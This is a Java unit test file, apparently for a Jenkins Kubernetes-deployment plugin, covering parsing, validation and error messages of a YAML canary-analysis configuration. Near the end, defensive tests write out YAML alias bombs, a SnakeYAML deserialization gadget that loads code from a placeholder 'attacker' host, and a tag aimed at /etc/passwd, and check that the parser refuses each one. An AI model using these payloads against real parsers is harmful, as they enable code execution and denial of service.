package io.jenkins.plugins.k8sdeploy.engine.analysis;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.jenkins.plugins.k8sdeploy.engine.analysis.JudgeSpec.Direction;
import io.jenkins.plugins.k8sdeploy.engine.analysis.JudgeSpec.JudgedMetric;
import io.jenkins.plugins.k8sdeploy.engine.analysis.provider.Credentials;
import io.jenkins.plugins.k8sdeploy.engine.analysis.provider.ProviderConfig;
import io.jenkins.plugins.k8sdeploy.engine.base.DeployException;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.ObjectInputStream;
import java.io.ObjectOutputStream;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.Test;

class AnalysisConfigTest {
    static final String EXAMPLE = """
            providers:
              prom: {type: prometheus, address: "http://127.0.0.1:9090", credentialsId: prom-token, timeout: 5s}
              smoke: {type: http}
            analyses:
              error-rate:
                metrics:
                - name: errors
                  provider: prom
                  query: sum(rate(app_requests_total{track="canary",code="500"}[30s])) / sum(rate(app_requests_total{track="canary"}[30s]))
                  successCondition: result < 0.05
                  interval: 5s
                  count: 3
                  failureLimit: 0          # also inconclusiveLimit, consecutiveErrorLimit, initialDelay, failureCondition, onNoData
              latency:
                judge:
                  interval: 10s
                  rounds: 3
                  minPoints: 20
                  passScore: 90
                  marginalScore: 75
                  metrics:
                  - {name: latency, provider: prom, query: 'app_latency_seconds{track="${scope}"}[1m]', direction: increase, tolerance: 0.25, critical: true, weight: 1}
            """;

    private static String mistakes(String yaml) {
        return assertThrows(DeployException.class, () -> AnalysisConfig.parse(yaml)).getMessage();
    }

    @Test
    void theExampleParsesIntoProvidersAndAnalyses() throws Exception {
        AnalysisConfig c = AnalysisConfig.parse(EXAMPLE);
        assertEquals(List.of("prom", "smoke"), List.copyOf(c.providers().keySet()));
        assertEquals(new ProviderConfig("prom", "prometheus", "http://127.0.0.1:9090", "prom-token",
                Duration.ofSeconds(5), null), c.providers().get("prom"));
        assertEquals(new ProviderConfig("smoke", "http", null, null, Duration.ofSeconds(10), null),
                c.providers().get("smoke"));

        assertEquals(List.of("error-rate", "latency"), c.analyses().stream().map(AnalysisSpec::name).toList());
        AnalysisSpec errors = c.analysis("error-rate");
        assertNull(errors.judge());
        assertEquals(MetricSpec.of("errors", "prom", "sum(rate(app_requests_total{track=\"canary\",code=\"500\"}"
                + "[30s])) / sum(rate(app_requests_total{track=\"canary\"}[30s]))")
                .withSuccessCondition("result < 0.05").withInterval(Duration.ofSeconds(5)).withCount(3)
                .withFailureLimit(0), errors.metrics().get(0));

        JudgeSpec judge = c.analysis("latency").judge();
        assertEquals(JudgeSpec.of(JudgedMetric.of("latency", "prom", "app_latency_seconds{track=\"${scope}\"}[1m]")
                .withDirection(Direction.INCREASE).withTolerance(0.25).asCritical().withWeight(1))
                .withInterval(Duration.ofSeconds(10)).withRounds(3).withMinPoints(20).withScores(90, 75), judge);
        assertTrue(c.analysis("latency").metrics().isEmpty());
    }

    @Test
    void buildMakesTheProvidersWithCredentialsFromTheCaller() throws Exception {
        AnalysisConfig c = AnalysisConfig.parse(EXAMPLE);
        List<String> asked = new ArrayList<>();
        Analyses all = c.build(p -> {
            asked.add(p.name() + "/" + p.credentialsId());
            return Credentials.bearer("t");
        });
        assertEquals(List.of("prom/prom-token"), asked, "only providers that name credentials are looked up");
        assertEquals(Set.of("error-rate", "latency"), all.names());

        String missing = assertThrows(DeployException.class, () -> c.build(p -> null)).getMessage();
        assertEquals("providers.prom.credentialsId: no credentials 'prom-token' were found.", missing);
        String thrown = assertThrows(DeployException.class, () -> c.build(p -> {
            throw new DeployException("Credentials 'prom-token' are a certificate; expected a secret text.");
        })).getMessage();
        assertEquals("Credentials 'prom-token' are a certificate; expected a secret text.", thrown);

        AnalysisConfig onlyHttp = AnalysisConfig.parse("""
                providers:
                  prom: {type: prometheus, address: "http://prom:9090", credentialsId: prom-token}
                  smoke: {type: http, address: "http://web:8080"}
                analyses:
                  smoke-test:
                    metrics:
                    - {name: up, provider: smoke, query: /healthz, successCondition: result == 200, count: 1}
                  errors:
                    metrics:
                    - {name: e, provider: prom, query: up, successCondition: result == 1}
                """);
        Analyses some = onlyHttp.build(p -> {
            throw new AssertionError("no credentials are needed for smoke-test");
        }, List.of("smoke-test"));
        assertEquals(Set.of("smoke-test"), some.names());
        assertEquals("The canary plan runs analysis 'canary-errors', but no analysis of that name is configured"
                + " (configured: smoke-test, errors).", assertThrows(DeployException.class,
                        () -> onlyHttp.build(null, List.of("canary-errors"))).getMessage());
    }

    @Test
    void everyMistakeIsReportedAtOnceWithItsPlace() {
        String m = mistakes("""
                providers:
                  prom: {type: prometheus, address: "ftp://prom:21", timeout: 0s}
                  dd: {type: datadog}
                  bare: {type: prometheus}
                  slow: {type: http, timeout: 10m, caCertificate: "not a certificate", adress: x}
                analyses:
                  error-rate:
                    metrics:
                    - name: errors
                      provider: prom
                      query: up
                      sucessCondition: result < 0.05
                      interval: 5 sec
                      count: three
                      onNoData: maybe
                      failureLimit: -1
                    - name: bad-condition
                      provider: prom
                      query: x{s="${nope}"}
                      successCondition: result <
                    - just text
                  latency:
                    judge:
                      minPoints: 2
                      passScore: 50
                      marginalScore: 75
                      metrics:
                      - {name: latency, provider: prom, query: 'x{track="${scope}"}', direction: sideways, critical: yes please}
                  empty: {}
                  listy: [1, 2]
                """);
        List<String> expected = List.of(
                "providers.prom.address: 'ftp://prom:21' is not an http or https URL (expected e.g."
                        + " http://prometheus:9090).",
                "providers.prom.timeout: the timeout must be more than 0; got 0s.",
                "providers.dd.type: 'datadog' is not a provider type; the types are prometheus and http.",
                "providers.bare.address: a prometheus provider needs the address of Prometheus' HTTP API, such as"
                        + " http://prometheus.monitoring:9090.",
                "providers.slow.adress: unknown setting; did you mean address? (known here: type, address,"
                        + " credentialsId, timeout, caCertificate).",
                "providers.slow.timeout: the timeout 10m is longer than 2m; a canary polls its analysis every few"
                        + " seconds.",
                "providers.slow.caCertificate: the CA certificate is not PEM",
                "analyses.error-rate.metrics[0].sucessCondition: unknown setting; did you mean successCondition?",
                "analyses.error-rate.metrics[0].interval: '5 sec' is not a duration. Expected a number with s, m or h,"
                        + " such as 90s, 10m or 1h.",
                "analyses.error-rate.metrics[0].count: expected a whole number, found the text 'three'.",
                "analyses.error-rate.metrics[0].onNoData: 'maybe' is not one of error, failed, inconclusive,"
                        + " evaluate.",
                "analyses.error-rate.metrics[0]: it has neither a successCondition nor a failureCondition",
                "analyses.error-rate.metrics[0]: failureLimit, inconclusiveLimit and consecutiveErrorLimit must be 0"
                        + " or more; got -1, 0 and 4.",
                "analyses.error-rate.metrics[1]: the query uses ${nope}; the placeholders are ${namespace},",
                "analyses.error-rate.metrics[1]: successCondition 'result <' is not valid",
                "analyses.error-rate.metrics[2]: expected a mapping, found the text 'just text'.",
                "analyses.latency.judge.metrics[0].direction: 'sideways' is not one of increase, decrease, either.",
                "analyses.latency.judge.metrics[0].critical: expected true or false, found the text 'yes please'.",
                "analyses.latency.judge: minPoints must be at least 3 (20 or more is wise); got 2.",
                "analyses.latency.judge: scores must satisfy 0 <= marginal <= pass <= 100; got marginal 75.0 and pass"
                        + " 50.0.",
                "analyses.empty: It has no metrics and no judge.",
                "analyses.listy: expected a mapping, found a list.");
        for (String e : expected) {
            assertTrue(m.contains(e), () -> "missing: " + e + "\nin: " + m);
        }
        assertTrue(m.startsWith("The analysis configuration has " + expected.size() + " mistakes: "
                + "providers.prom.address: "), m);
    }

    @Test
    void oneMistakeIsSaidSoAndTheOriginIsNamed() {
        String m = assertThrows(DeployException.class, () -> AnalysisConfig.parse("""
                analyses:
                  a:
                    metrics:
                    - {name: m, provider: p, query: up, successCondition: result == 1, interval: 30}
                """, "k8sDeploy analysisConfig")).getMessage();
        assertEquals("k8sDeploy analysisConfig has a mistake: analyses.a.metrics[0].interval: '30' is not a duration."
                + " Expected a number with s, m or h, such as 90s, 10m or 1h.", m);
    }

    @Test
    void providersAreResolvedAcrossMergedConfigurationsAndTheLaterWins() throws Exception {
        AnalysisConfig global = AnalysisConfig.parse("""
                providers:
                  prom: {type: prometheus, address: "http://prom:9090"}
                analyses:
                  errors:
                    metrics: [{name: e, provider: prom, query: up, successCondition: result == 1}]
                  smoke:
                    metrics: [{name: s, provider: web, query: 'http://web/healthz', successCondition: result == 200}]
                """, "global configuration");
        AnalysisConfig step = AnalysisConfig.parse("""
                providers:
                  web: {type: http}
                analyses:
                  errors:
                    metrics: [{name: e, provider: prom, query: 'sum(up)', successCondition: result == 3}]
                """, "step");
        // alone, the global configuration names a provider it does not define
        assertEquals("The analysis configuration has a mistake: global configuration:"
                + " analyses.smoke.metrics[0].provider: 'web' is not defined under providers (defined: prom).",
                assertThrows(DeployException.class, global::validate).getMessage());

        AnalysisConfig merged = AnalysisConfig.merge(global, step);
        merged.validate();
        assertEquals(List.of("prom", "web"), List.copyOf(merged.providers().keySet()));
        assertEquals(List.of("smoke", "errors"), merged.analyses().stream().map(AnalysisSpec::name).toList());
        assertEquals("sum(up)", merged.analysis("errors").metrics().get(0).query(), "the step's definition wins");
        assertEquals(Set.of("smoke", "errors"), merged.build(null).names());
        assertTrue(AnalysisConfig.merge().isEmpty());
    }

    @Test
    void httpCheckQueriesAreCheckedBeforeTheCanaryStarts() {
        String m = mistakes("""
                providers:
                  web: {type: http}
                analyses:
                  smoke:
                    metrics:
                    - {name: up, provider: web, query: 'ftp://web/healthz', successCondition: result == 200}
                    - {name: db, provider: web, query: 'http://${canaryService}/health | checks.db', successCondition: result == 1}
                """);
        assertEquals("The analysis configuration has 2 mistakes: analyses.smoke.metrics[0].query: 'ftp://web/healthz'"
                + " is not an http or https URL. analyses.smoke.metrics[1].query: the JSON path 'checks.db' does not"
                + " start with $ (e.g. $.status).", m);
    }

    @Test
    void emptyTextIsAnEmptyConfigurationAndOtherShapesAreRefused() throws Exception {
        assertTrue(AnalysisConfig.parse("").isEmpty());
        assertTrue(AnalysisConfig.parse("# nothing yet\n").isEmpty());
        assertTrue(AnalysisConfig.parse("providers: {}\nanalyses: {}\n").isEmpty());
        assertEquals("The analysis configuration is not a mapping with providers and analyses: found a list.",
                mistakes("- a\n- b\n"));
        assertEquals("The analysis configuration has a mistake: analysis: unknown setting; did you mean analyses?"
                + " (known here: providers, analyses).", mistakes("analysis: {}\n"));
        assertEquals("The analysis configuration holds more than one YAML document (line 3); expected one, with"
                + " providers and analyses.", mistakes("providers: {}\n---\nanalyses: {}\n"));
        String dup = mistakes("providers:\n  p: {type: http}\n  p: {type: http}\n");
        assertTrue(dup.startsWith("The analysis configuration is not valid YAML: found duplicate key p (line 3)"), dup);
    }

    @Test
    void anAliasBombIsRefusedBeforeItCostsMemory() {
        StringBuilder bomb = new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        for (char c = 'b'; c <= 'j'; c++) {
            String prev = "*" + (char) (c - 1);
            bomb.append(c).append(": &").append(c).append(" [").append(String.join(",", List.of(prev, prev, prev,
                    prev, prev, prev, prev))).append("]\n");
        }
        bomb.append("providers: {p: {type: http, address: *j}}\n");
        assertEquals("The analysis configuration uses more than 50 YAML aliases, the mark of an alias bomb (\"billion"
                + " laughs\"), so it was not read.", mistakes(bomb.toString()));
    }

    /** 100 kB of text: one 50,000-character value used 10,000 times is 500 million characters once read. */
    @Test
    void scalarAliasesThatExpandPastTheLimitAreRefusedAtTheirLine() {
        String bomb = "x: &x \"" + "a".repeat(50_000) + "\"\nproviders:\n  p: {type: http, address: ["
                + String.join(",", java.util.Collections.nCopies(10_000, "*x")) + "]}\n";

        assertEquals("The analysis configuration expands through YAML aliases to more than 4194304 characters (line 3),"
                + " the mark of an alias bomb (\"billion laughs\"), so it was not read.", mistakes(bomb));
    }

    @Test
    void javaTypeTagsAreRefusedNeverConstructed() {
        String m = mistakes("""
                providers:
                  p: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://attacker/"]]]]
                """);
        assertEquals("The analysis configuration is not valid YAML: Global tag is not allowed:"
                + " tag:yaml.org,2002:javax.script.ScriptEngineManager (line 2).", m);
        assertEquals("The analysis configuration is not valid YAML: Global tag is not allowed:"
                + " tag:yaml.org,2002:java.io.File (line 1).", mistakes("analyses: !!java.io.File [\"/etc/passwd\"]\n"));
        // a local tag is no type either: the safe constructor knows only maps, lists and scalars
        String local = mistakes("providers: !Evil {p: 1}\n");
        assertTrue(local.startsWith("The analysis configuration is not valid YAML: could not determine a constructor"
                + " for the tag !Evil"), local);
    }

    @Test
    void theConfigurationIsPlainSerializableDataWithoutSecrets() throws Exception {
        AnalysisConfig c = AnalysisConfig.parse(EXAMPLE);
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ObjectOutputStream out = new ObjectOutputStream(bytes)) {
            out.writeObject(c);
        }
        AnalysisConfig back;
        try (ObjectInputStream in = new ObjectInputStream(new ByteArrayInputStream(bytes.toByteArray()))) {
            back = (AnalysisConfig) in.readObject();
        }
        assertEquals(c.providers(), back.providers());
        assertEquals(c.analyses(), back.analyses());
        assertEquals("ProviderConfig[name=prom, type=prometheus, address=http://127.0.0.1:9090, credentialsId=prom-token,"
                + " timeout=5s, caCertificate=null]", c.providers().get("prom").toString());
        assertEquals("basic (user grafana)", Credentials.basic("grafana", "hunter2").toString());
        assertFalse(Credentials.bearer("hunter2").toString().contains("hunter2"));
    }
}
